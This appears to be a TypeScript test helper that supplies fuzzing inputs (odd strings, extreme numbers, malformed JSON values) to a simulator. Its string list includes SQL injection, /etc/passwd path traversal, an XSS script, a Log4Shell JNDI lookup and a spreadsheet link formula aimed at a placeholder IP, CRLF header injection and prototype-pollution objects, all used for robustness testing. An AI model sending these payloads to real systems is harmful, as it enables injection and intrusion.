import type { Random } from '../../src/adapters/simulator/random.js';

/** Texts that have broken some software before. */
const TEXTS: readonly [string, ...string[]] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202e\u200b\ufeff',
  "'; DROP TABLE rules; --",
  '%00%ff',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://192.0.2.1")',
  '${jndi:ldap://192.0.2.1/a}',
  '{{7*7}}',
  'constructor',
  '__proto__',
  'null',
  'NaN',
  '-1',
  '1e400',
  '9223372036854775808',
  '2026-02-30T25:61:61Z',
  '0000-00-00',
  '+275760-09-13T00:00:00.001Z',
  '😀'.repeat(200),
  'x'.repeat(70_000),
  'ok\r\nX-Injected: yes',
];

const NUMBERS: readonly [number, ...number[]] = [
  0,
  -0,
  -1,
  0.1,
  1e-320,
  2 ** 31,
  2 ** 53,
  -(2 ** 53),
  1e21,
  1e308,
  2 ** 63,
];

export const nastyText = (random: Random): string => random.pick(TEXTS);

/** Any JSON value where another was expected. */
export function nastyValue(random: Random): unknown {
  return random.pick<() => unknown>([
    () => nastyText(random),
    () => nastyText(random),
    () => random.pick(NUMBERS),
    () => null,
    () => true,
    () => [],
    () => ({}),
    () => [[], {}, null, 0, ''],
    () => deep(random.integer(10, 3_000)),
    () => Object.fromEntries([['__proto__', { polluted: true }]]),
    () => ({ constructor: { prototype: { polluted: true } }, toString: 1, length: -1 }),
    () => Array.from({ length: 2_000 }, (_, index) => index),
  ])();
}

function deep(levels: number): unknown {
  let value: unknown = 0;
  for (let level = 0; level < levels; level += 1) value = level % 2 ? { a: value } : [value];
  return value;
}
